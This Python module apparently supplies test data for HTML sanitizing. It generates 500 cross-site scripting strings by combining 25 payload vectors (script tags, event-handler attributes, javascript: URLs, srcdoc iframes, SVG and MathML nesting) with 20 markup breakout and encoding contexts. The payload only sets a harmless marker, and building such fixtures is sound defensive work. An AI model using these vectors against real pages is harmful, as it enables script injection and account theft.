"""Five hundred texts that would run in a page that took them for markup: vectors that fire, contexts that break out."""

import html
from collections.abc import Callable
from urllib.parse import quote

RUN = "top.hit=1"
# Each fires by itself where it is parsed as HTML without a policy.
VECTORS = (
    f"<script>{RUN}</script>",
    f"<sCrIpT x>{RUN}</ScRiPt >",
    f"<img src=q onerror={RUN}>",
    f"<IMG/SRC=q/ONERROR={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<iframe src=javascript:{RUN}>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>a</a>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<audio src=q onerror={RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<math><mtext><img src=q onerror={RUN}>",
    f"<form><button formaction=javascript:{RUN} autofocus onfocus={RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href=javascript:{RUN}//>",
    f"<style>*{{background:url(q)}}</style><img src=q onerror={RUN}>",
    f"<div style=animation-name:x onanimationstart={RUN}>",
    f"<marquee onstart={RUN}>",
)
CONTEXTS: tuple[Callable[[str], str], ...] = (
    lambda vector: vector,
    lambda vector: f'">{vector}',
    lambda vector: f"'>{vector}",
    lambda vector: f"`>{vector}",
    lambda vector: f'" onmouseover={RUN} autofocus onfocus={RUN} x="{vector}',
    lambda vector: f"</script>{vector}",
    lambda vector: f"</textarea>{vector}",
    lambda vector: f"</title></style>{vector}",
    lambda vector: f"--!>{vector}<!--",
    lambda vector: f"]]>{vector}",
    lambda vector: f"</template></svg>{vector}",
    lambda vector: f"${{{vector}}}",
    lambda vector: f"${{{RUN}}}{vector}",
    lambda vector: f"<!--?lit$-->{vector}",
    html.escape,
    quote,
    lambda vector: vector.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda vector: vector.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda vector: f"\u202e{vector}\u202c",
    lambda vector: f"<<{vector[1:2]}\u200b{vector}>",
)
HOSTILE = tuple(context(vector) for vector in VECTORS for context in CONTEXTS)
